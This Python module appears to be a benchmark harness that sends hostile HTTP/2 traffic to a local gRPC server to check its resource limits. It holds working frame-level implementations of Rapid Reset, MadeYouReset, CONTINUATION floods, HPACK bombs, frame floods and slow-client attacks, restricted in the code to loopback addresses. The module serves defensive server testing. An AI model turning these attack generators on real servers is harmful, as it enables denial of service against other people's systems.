"""The worst peers of an HTTP/2 server, each bounded in what it sends and in time, against loopback only.

    python -m bench.hostile ADDRESS KEY ATTACK SECONDS      again and again, at the lowest priority

Each attack says what the server must make of it: which budget is exceeded, and with which error the connection ends, or
that it need not end.
"""

from __future__ import annotations

import ipaddress
import os
import select
import socket
import sys
import time
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from types import TracebackType
from typing import Self

from bench.verdict import BenchError

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET, SYNC = "/avap.DefinitionEngine/GetCommand", "/avap.DefinitionEngine/SyncCatalog"
CONNECT_TIMEOUT_S = 5.0
CHUNK_BYTES = 32 * 1024
INPUT_BYTES_MAX = 64 << 20
"""Read of one connection at most."""

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM = ACK = 0x1
END_HEADERS, PRIORITY_FLAG = 0x4, 0x20
INITIAL_WINDOW_SIZE = 4
CALM = 0xB
CANCEL = 0x8
WINDOW_MAX = (1 << 31) - 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: str, value: str) -> bytes:
    """A field that is not indexed (RFC 7541, section 6.2.2), its strings at most 16,000 bytes long."""
    return b"\0" + _string(name.encode()) + _string(value.encode())


def call_block(path: str, key: str) -> bytes:
    """A header block of a gRPC call that leaves the dynamic table as it is."""
    fields = (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "hostile"),
        ("content-type", "application/grpc"), ("te", "trailers"), ("x-avap-auth", key),
    )  # fmt: skip
    return b"".join(literal(*pair) for pair in fields)


def _string(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest = len(text) - 127
    return bytes([127, rest & 127 | 128, rest >> 7]) + text if rest > 127 else bytes([127, rest]) + text


@dataclass(slots=True)
class Heard:
    """What the server said."""

    goaway: int | None = None
    resets: int = 0
    data_bytes: int = 0
    closed: bool = False


class Hostile:
    """One connection of an attacker."""

    def __init__(self, address: str, *, receive_buffer: int | None = None) -> None:
        """Connect. Raises BenchError for what is not on loopback."""
        host, _, port = address.rpartition(":")
        if not ipaddress.ip_address(host).is_loopback:
            raise BenchError(f"attacks are for loopback only; found {address}")
        self.heard = Heard()
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer is not None:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.settimeout(CONNECT_TIMEOUT_S)
        self.socket.connect((host, int(port)))
        self.socket.setblocking(False)
        self._input = bytearray()
        self._read_bytes = 0

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.socket.close()

    def start(self, settings: Mapping[int, int] | None = None) -> None:
        """Preface, SETTINGS and the acknowledgement of what the server will say."""
        values = b"".join(key.to_bytes(2, "big") + value.to_bytes(4, "big") for key, value in (settings or {}).items())
        self.send(PREFACE + frame(SETTINGS, 0, 0, values) + frame(SETTINGS, ACK, 0), time.monotonic() + 1)

    def send(self, data: bytes, until: float, *, reading: bool = True) -> None:
        """Send as long as the server takes it; what it says meanwhile is read, unless it is not to be."""
        view = memoryview(data)
        while view and not self.heard.closed and time.monotonic() < until:
            readable, writable, _ = select.select([self.socket] if reading else [], [self.socket], [], 0.05)
            if readable:
                self._receive()
            if writable and not self.heard.closed:
                try:
                    view = view[self.socket.send(view[:CHUNK_BYTES]) :]
                except BlockingIOError:
                    continue
                except OSError:
                    self._drain()
                    self.heard.closed = True

    def listen(self, until: float) -> None:
        """Read until the server closes the connection, or it is time."""
        while not self.heard.closed and time.monotonic() < until:
            readable, _, _ = select.select([self.socket], [], [], min(0.05, max(0.0, until - time.monotonic())))
            if readable:
                self._receive()

    def _drain(self) -> None:
        """Take in what came before the connection broke."""
        while not self.heard.closed:
            self._receive()

    def _receive(self) -> None:
        try:
            data = self.socket.recv(1 << 18)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        self._read_bytes += len(data)
        if not data or self._read_bytes > INPUT_BYTES_MAX:
            self.heard.closed = True
            return
        self._input += data
        while len(self._input) >= 9:
            length = int.from_bytes(self._input[:3], "big")
            if len(self._input) < 9 + length:
                break
            kind, payload = self._input[3], bytes(self._input[9 : 9 + length])
            del self._input[: 9 + length]
            if kind == GOAWAY:
                self.heard.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM:
                self.heard.resets += 1
            elif kind == DATA:
                self.heard.data_bytes += length


@dataclass(frozen=True, slots=True)
class Attack:
    """`make(key)` gives what one connection sends, chunk by chunk."""

    name: str
    budgets: frozenset[str]
    """Limits of `avap_limits_reached_total`: one of these must grow."""
    make: Callable[[str], Iterable[bytes]]
    codes: frozenset[int] = frozenset({CALM})
    """Of the GOAWAY that ends it. Empty: the connection need not end."""
    settings: Mapping[int, int] = field(default_factory=dict)
    connections: int = 1
    reads: bool = True
    """Whether what the server says is read."""
    begins: bool = True
    """Whether it begins with a preface."""
    ends_s: float = 5.0
    """The time in which the budget must be found exceeded."""


ATTACKS: dict[str, Attack] = {}


def attack(
    name: str, *budgets: str, codes: Iterable[int] = (CALM,), settings: Mapping[int, int] | None = None,
    connections: int = 1, reads: bool = True, begins: bool = True, ends_s: float = 5.0,
) -> Callable[[Callable[[str], Iterable[bytes]]], Callable[[str], Iterable[bytes]]]:  # fmt: skip
    """Enters an attack."""

    def enter(make: Callable[[str], Iterable[bytes]]) -> Callable[[str], Iterable[bytes]]:
        ATTACKS[name] = Attack(
            name, frozenset(budgets), make, frozenset(codes), settings or {}, connections, reads, begins, ends_s
        )
        return make

    return enter


def streams(count: int) -> range:
    """The first numbers of a client's streams."""
    return range(1, 2 * count, 2)


def in_chunks(frames: Iterable[bytes]) -> Iterator[bytes]:
    """Frames, many to a send."""
    held = bytearray()
    for one in frames:
        held += one
        if len(held) >= CHUNK_BYTES:
            yield bytes(held)
            held.clear()
    yield bytes(held)


# ---- resets, the peer's and our own


@attack("rapid_reset", "peer_resets")
def _(key: str) -> Iterable[bytes]:
    """CVE-2023-44487: a call and its reset, for ever."""
    block = call_block(GET, key)
    cancel = CANCEL.to_bytes(4, "big")
    return in_chunks(
        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel) for stream in streams(20_000)
    )


def made_you_reset(name: str, bad: Callable[[int], bytes], *, whole: bool = False) -> None:
    """CVE-2025-8671: a call, and a breach that has the server reset it.

    `whole`: the call has ended on our side, and for want of a window not on the server's.
    """

    def make(key: str) -> Iterable[bytes]:
        block = call_block(SYNC if whole else GET, key)
        for stream in streams(5_000):
            message = frame(DATA, END_STREAM, stream, bytes(5)) if whole else b""
            yield frame(HEADERS, END_HEADERS, stream, block) + message + bad(stream)

    enter = attack(f"made_you_reset_{name}", "own_resets", "empty_frames", settings={INITIAL_WINDOW_SIZE: 0})
    enter(lambda key: in_chunks(make(key)))


made_you_reset("window_update_zero", lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)))
made_you_reset("window_overflow", lambda stream: frame(WINDOW_UPDATE, 0, stream, WINDOW_MAX.to_bytes(4, "big")) * 2)
made_you_reset("data_behind_the_end", lambda stream: frame(DATA, 0, stream, b"x"), whole=True)
made_you_reset(
    "headers_behind_the_end", lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, literal("x-late", "1")),
    whole=True,
)  # fmt: skip
made_you_reset("priority_on_itself", lambda stream: frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10"))
made_you_reset("priority_of_wrong_length", lambda stream: frame(PRIORITY, 0, stream, bytes(4)))
made_you_reset("unended_trailers", lambda stream: frame(HEADERS, END_HEADERS, stream, literal("x-trailer", "1")))


# ---- header blocks


@attack("continuation_flood", "continuations", "header_list")
def _(key: str) -> Iterable[bytes]:
    """CVE-2024-27316: a block that does not end."""
    yield frame(HEADERS, 0, 1, call_block(GET, key))
    piece = frame(CONTINUATION, 0, 1, literal("x-more", "y" * 400))
    yield from in_chunks(piece for _ in range(20_000))


@attack("empty_continuation_flood", "continuations")
def _(key: str) -> Iterable[bytes]:
    """A block that does not end and does not grow."""
    yield frame(HEADERS, 0, 1, call_block(GET, key))
    yield from in_chunks(frame(CONTINUATION, 0, 1) for _ in range(100_000))


@attack("empty_headers_flood", "own_resets", "peer_resets", "empty_frames")
def _(key: str) -> Iterable[bytes]:
    """Requests without a field."""
    return in_chunks(frame(HEADERS, END_HEADERS | END_STREAM, stream) for stream in streams(20_000))


@attack("hpack_bomb", "header_list", codes=())
def _(key: str) -> Iterable[bytes]:
    """A field of 4,000 bytes once, and then four thousand times for a byte each."""
    yield frame(
        HEADERS, END_HEADERS | END_STREAM, 1, call_block(GET, key) + b"\x40" + literal("x-bomb", "z" * 3900)[1:]
    )
    bomb = call_block(GET, key) + b"\xbe" * 4_000
    yield from in_chunks(frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb) for stream in list(streams(500))[1:])


@attack("hpack_table_update_flood", codes=())
def _(key: str) -> Iterable[bytes]:
    """Blocks that change the table's size thousands of times before they say anything."""
    block = b"\x20\x3f\xe1\x1f" * 2_000 + call_block(GET, key)
    return in_chunks(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in streams(500))


# ---- frames that ask for work or carry nothing


def flood(name: str, budget: str, one: bytes, count: int, *, opened: bool = False) -> None:
    """The same frame again and again, on stream 1 if that is to be opened before."""

    def make(key: str) -> Iterable[bytes]:
        if opened:
            yield frame(HEADERS, END_HEADERS, 1, call_block(GET, key))
        yield from in_chunks(one for _ in range(count))

    attack(name, budget)(make)


flood("ping_flood", "pings", frame(PING, 0, 0, b"hostile!"), 50_000)
flood("settings_flood", "settings", frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"), 20_000)
flood("empty_settings_flood", "settings", frame(SETTINGS, 0, 0), 20_000)
flood("empty_data_flood", "empty_frames", frame(DATA, 0, 1), 100_000, opened=True)
flood("priority_flood", "empty_frames", frame(PRIORITY, 0, 3, bytes(5)), 100_000)
flood("unknown_frame_flood", "empty_frames", frame(0x2A, 0, 0), 100_000)


# ---- those who take their time


@attack("slow_preface", "preface", codes=(), connections=50, begins=False, ends_s=20)
def _(key: str) -> Iterable[bytes]:
    """A byte a second or none."""
    return [PREFACE[:5]]


@attack("slow_headers", "request", "preface", codes=(), connections=50, ends_s=45)
def _(key: str) -> Iterable[bytes]:
    """A header block that is never finished."""
    return [frame(HEADERS, 0, 1, call_block(GET, key)[:40])]


@attack("slow_body", "request", codes=(), connections=20, ends_s=45)
def _(key: str) -> Iterable[bytes]:
    """Calls whose message never comes."""
    block = call_block(GET, key)
    return in_chunks(
        frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"\0\0\0") for stream in streams(100)
    )


@attack("zero_window_readers", "zero_window", codes=(), settings={INITIAL_WINDOW_SIZE: 0}, connections=20, ends_s=45)
def _(key: str) -> Iterable[bytes]:
    """The whole catalogue a hundred times, and no window for a byte of it."""
    block, body = call_block(SYNC, key), bytes(5)
    return in_chunks(
        frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body) for stream in streams(100)
    )


@attack(
    "stalled_readers", "zero_window", "queued_bytes", codes=(), settings={INITIAL_WINDOW_SIZE: WINDOW_MAX},
    connections=20, reads=False, ends_s=45,
)  # fmt: skip
def _(key: str) -> Iterable[bytes]:
    """The whole catalogue a hundred times with all the window there is, and nobody reads."""
    block, body = call_block(SYNC, key), bytes(5)
    yield frame(WINDOW_UPDATE, 0, 0, (WINDOW_MAX - 65_535).to_bytes(4, "big"))
    yield from in_chunks(
        frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body) for stream in streams(100)
    )


@attack("idle_connections", codes=(), connections=500)
def _(key: str) -> Iterable[bytes]:
    """Connections on which nothing is asked."""
    return []


def run(chosen: Attack, address: str, key: str, until: float) -> list[Heard]:
    """Carry out an attack once, on all its connections, and wait for what becomes of them until it is time."""
    connections: list[Hostile] = []
    try:
        for _ in range(chosen.connections):
            connections.append(Hostile(address, receive_buffer=None if chosen.reads else 4096))
            if chosen.begins:
                connections[-1].start(chosen.settings)
            for chunk in chosen.make(key):
                connections[-1].send(chunk, until, reading=chosen.reads)
        if chosen.reads:
            for connection in connections:
                connection.listen(until)
        else:
            time.sleep(max(0.0, until - time.monotonic()))  # that is the attack
            until = time.monotonic() + 1
            for connection in connections:
                connection.listen(until)
        return [connection.heard for connection in connections]
    finally:
        for connection in connections:
            connection.socket.close()


def main() -> None:
    """Attack again and again for a while, at the lowest priority: the judge must not be what suffers."""
    address, key, name, seconds = sys.argv[1:]
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    print("begins", flush=True)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        # One that the server ends begins anew at once; one that it bears lasts to the end.
        run(ATTACKS[name], address, key, end)


if __name__ == "__main__":
    main()
